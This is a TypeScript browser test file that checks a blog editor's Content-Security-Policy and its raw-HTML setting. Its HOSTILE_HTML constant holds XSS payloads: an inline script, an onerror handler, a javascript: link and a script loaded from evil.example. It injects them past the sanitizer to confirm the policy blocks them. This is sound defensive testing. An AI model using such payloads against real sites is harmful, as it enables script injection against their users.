import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launch, type Session } from '../support/browser';
import { AppDriver, until } from '../support/app-driver';
import { XssTrap, type TrapRecord } from '../support/xss-trap';
import { headerPolicy, metaPolicy, parsePolicy, scriptPolicyProblems } from '../../src/core/security/csp';

// Issue 7, points 1 and 2: the raw HTML setting as Hugo has it, and the Content-Security-Policy of the built
// app: the app carries it, works under it without a single violation, and it stops a post's script even when
// the post's HTML reaches the page without the sanitizer (the control without the policy shows it would run).

/** A post whose HTML would run three ways (inline script, event handler, javascript: link) and load a remote script. */
const HOSTILE_HTML = [
  '<p id="pw-bypass">bypassed</p>',
  `<script>__pwHit('inline script')</script>`,
  `<script src="https://evil.example/remote.js"></script>`,
  `<img src="data:,broken" onerror="__pwHit('event handler')">`,
  `<a id="pw-js-link" href="javascript:__pwHit('javascript URL')">open</a>`,
].join('\n');

/** In the page: put `html` into the preview as if no sanitizer existed (scripts in a contextual fragment run). */
async function bypassSanitizer(session: Session, html: string): Promise<void> {
  await session.page.evaluate((markup) => {
    const target = document.querySelector('.post-body') ?? document.body;
    target.append(document.createRange().createContextualFragment(markup));
    (document.getElementById('pw-js-link') as HTMLAnchorElement | null)?.click();
  }, html);
  await session.page.waitForTimeout(500);
}

const hits = (records: TrapRecord[]) =>
  records.filter((r) => r.what.startsWith('__pwHit')).map((r) => r.what);

describe('Content-Security-Policy and the raw HTML setting', () => {
  let session: Session;
  let app: AppDriver;
  let trap: XssTrap;
  let previous: string | null = null;
  let headerCsp: string | undefined;

  const show = async (id: string, text: string, marker: string) => {
    const inspection = await trap.show({ id, text, marker, previous });
    previous = marker;
    return inspection;
  };

  beforeAll(async () => {
    // The control test serves its own page on the app's origin: keep the PWA's service worker from answering it.
    session = await launch({ serviceWorkers: 'block' });
    app = new AppDriver(session.page);
    trap = await XssTrap.install(session.context, session.page, session.baseURL);
    const response = await session.page.goto('/');
    headerCsp = (await response?.allHeaders())?.['content-security-policy'];
    await app.waitLoaded();
    await app.newPost();
    trap.appIsLoaded();
  });
  afterAll(async () => session.close());

  it('ships the policy in the page and as a header: scripts from the app only, no plugins', async () => {
    const meta = await session.page
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .getAttribute('content');
    expect(meta).toBe(metaPolicy());
    expect(scriptPolicyProblems(meta ?? '')).toEqual([]);
    expect(headerCsp).toBe(headerPolicy());
    expect(parsePolicy(headerCsp ?? '')['frame-ancestors']).toEqual(["'none'"]);
  });

  it('shows a note where raw HTML was omitted, and the sanitized HTML when "Render raw HTML" is on', async () => {
    const post = 'Press <kbd>Ctrl</kbd> now.\n\n<div class="box">Boxed text</div>\n\nraw1x\n';
    await show('raw-off', post, 'raw1x');
    const notes = app.preview.getByRole('note');
    expect(await notes.count()).toBe(3);
    expect(await notes.allTextContents()).toEqual(Array(3).fill('raw HTML omitted'));
    expect(await app.preview.textContent()).not.toContain('Boxed text');

    const toggle = session.page.getByRole('checkbox', { name: 'Render raw HTML' });
    await toggle.check();
    await until(async () => (await app.preview.locator('kbd').count()) === 1, 'the kbd element');
    expect(await app.preview.textContent()).toContain('Boxed text');
    expect(await notes.count()).toBe(0);
    await toggle.uncheck();
    await until(async () => (await notes.count()) === 3, 'the notes again');
  });

  it('lets the whole app work under the policy without a single violation', async () => {
    // Lazy code highlighting, a data: image, an object-URL image, an allowed embed (raw HTML on), the sample post.
    const blobUrl = await session.page.evaluate(async () => {
      const canvas = document.createElement('canvas');
      canvas.width = canvas.height = 4;
      canvas.getContext('2d')?.fillRect(0, 0, 4, 4);
      const blob = await new Promise<Blob | null>((resolve) => canvas.toBlob(resolve));
      return blob ? URL.createObjectURL(blob) : '';
    });
    const dataUrl = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
    const post = [
      '---',
      'title: Under the policy',
      'tags: [csp]',
      '---',
      '',
      'csp1x',
      '',
      '```go',
      'func main() {}',
      '```',
      '',
      `![pixel](${dataUrl}) ![canvas](${blobUrl})`,
      '',
      '<iframe src="https://www.youtube-nocookie.com/embed/abc123" width="320" height="180"></iframe>',
      '',
    ].join('\n');
    const toggle = session.page.getByRole('checkbox', { name: 'Render raw HTML' });
    await toggle.check();
    const inspection = await show('app-under-csp', post, 'csp1x');
    expect(inspection.log).toEqual([]);
    await expect.poll(() => app.preview.locator('code[data-lang="go"] span').count()).toBeGreaterThan(0);
    const images = app.preview.locator('img');
    await images.last().scrollIntoViewIfNeeded(); // preview images load lazily
    await expect
      .poll(() => images.evaluateAll((imgs) => imgs.map((i) => (i as HTMLImageElement).naturalWidth)))
      .toEqual([1, 4]);
    expect(await app.preview.locator('iframe[src^="https://www.youtube-nocookie.com/embed/"]').count()).toBe(
      1,
    );
    expect(
      await session.page.evaluate(() => getComputedStyle(document.querySelector('.cm-editor')!).display),
    ).toBe('flex');
    await toggle.uncheck();

    await app.typeAtEnd('\nTyped under the policy.');
    await expect.poll(() => app.preview.textContent()).toContain('Typed under the policy.');
    await app.button('Open sample post').click();
    await until(
      async () => (await app.preview.locator('.post-body').textContent())?.includes('csp1x') !== true,
      'the sample',
    );
    const exported = await app.exportMarkdown();
    expect(exported.bytes.length).toBeGreaterThan(0);
    await session.page.waitForTimeout(300);
    expect((await trap.inspect()).log).toEqual([]);
  });

  it("blocks a post's inline script, event handler, javascript: URL and remote script when the sanitizer is bypassed", async () => {
    await session.page.getByRole('checkbox', { name: 'Render raw HTML' }).uncheck();
    await show('bypass', `${HOSTILE_HTML}\n\nbypass1x\n`, 'bypass1x');
    expect(hits((await trap.inspect()).log)).toEqual([]); // the sanitizer's work: nothing of it in the page
    await trap.showing('bypass');
    await bypassSanitizer(session, HOSTILE_HTML);
    expect(await session.page.locator('#pw-bypass').count()).toBe(1); // the markup did get in
    const records = (await trap.inspect()).log;
    expect(hits(records)).toEqual([]);
    const blocked = records.filter((r) => r.what.startsWith('CSP blocked')).map((r) => r.what);
    expect(blocked).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^CSP blocked script-src-elem inline/),
        expect.stringMatching(/^CSP blocked script-src-attr inline/),
        expect.stringMatching(/^CSP blocked script-src-elem https:\/\/evil\.example\/remote\.js/),
      ]),
    );
    expect(records.some((r) => r.what.includes('request to https://evil.example'))).toBe(false);
  });

  it('(control) the same markup runs on a page of the same origin without the policy', async () => {
    const url = `${session.baseURL}pw-no-policy.html`;
    await session.page.route(url, (route) =>
      route.fulfill({ contentType: 'text/html', body: '<!doctype html><main class="post-body"></main>' }),
    );
    await session.page.goto(url);
    await trap.showing('control');
    await bypassSanitizer(session, HOSTILE_HTML);
    const ran = hits((await trap.inspect()).log);
    expect(ran).toEqual(
      expect.arrayContaining(['__pwHit(inline script)', '__pwHit(event handler)', '__pwHit(javascript URL)']),
    );
  });
});
